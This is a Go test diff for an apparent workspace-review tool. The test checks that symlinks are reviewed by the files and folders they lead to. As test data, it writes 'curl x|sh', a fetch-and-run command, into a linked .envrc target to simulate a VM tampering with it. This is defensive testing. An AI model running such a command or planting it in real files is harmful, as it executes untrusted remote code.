@@ -272,3 +272,58 @@ func TestReviewLargeFile(t *testing.T) {
 		t.Errorf("then quiet: %+v", changes)
 	}
 }
+
+// A link is reviewed by what it leads to inside the tree: a file's content
+// (.envrc -> notes/env.sh), a folder walked as the table's (.vscode ->
+// src/conf, each folder once); one out of the tree keeps its text alone.
+func TestReviewLinks(t *testing.T) {
+	f := newReviewFixture(t, map[string]string{"notes/env.sh": "export A=1\n", "src/conf/settings.json": "{}\n"})
+	link := func(rel, target string) {
+		t.Helper()
+		if err := os.Symlink(target, f.path(rel)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	link(".envrc", "notes/env.sh")
+	link(".vscode", "src/conf")
+	link("src/conf/loop", ".")
+	link(".idea", "../..")
+	link(".env", "nowhere")
+	notRacy()
+	_, changes := f.review()
+	for _, p := range []string{".envrc", ".vscode", ".vscode/settings.json", ".vscode/loop", ".idea", ".env"} {
+		if changes[p].Change != "new" {
+			t.Errorf("%s: %+v, want new", p, changes[p])
+		}
+	}
+	if len(changes) != 6 || !strings.Contains(changes[".envrc"].Why, "a link to notes/env.sh") || !strings.Contains(changes[".vscode"].Why, "VS Code") {
+		t.Errorf("changes %+v", changes)
+	}
+	rec := f.record()
+	if rec[".envrc"].SHA256 != sha256hex("export A=1\n") || rec[".envrc"].Stamp == (folderfs.Stamp{}) {
+		t.Errorf("the link's entry: %+v, want its file's hash and stamp", rec[".envrc"])
+	}
+	if _, changes := f.review(); len(changes) != 0 {
+		t.Errorf("nothing changed: %+v", changes)
+	}
+	// The VM changes what the links lead to; the links stay.
+	f.write("notes/env.sh", "curl x|sh\n")
+	f.write("src/conf/tasks.json", "{}\n")
+	notRacy()
+	_, changes = f.review()
+	if len(changes) != 2 || changes[".envrc"].Change != "changed" || changes[".vscode/tasks.json"].Change != "new" {
+		t.Errorf("what the links lead to changed: %+v", changes)
+	}
+	// A link an older asb recorded (its text only) is listed once: what it
+	// leads to was never compared.
+	record := filepath.Join(f.dir, ".asb", "review", "workspace.json")
+	delete(rec, ".envrc")
+	raw, _ := json.Marshal(rec)
+	raw = append(raw[:len(raw)-1], `,".envrc":{"kind":"link","target":"notes/env.sh"}}`...)
+	if err := os.WriteFile(record, raw, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if _, changes := f.review(); len(changes) != 2 || changes[".envrc"].Change != "changed" {
+		t.Errorf("after an older record: %+v", changes)
+	}
+}
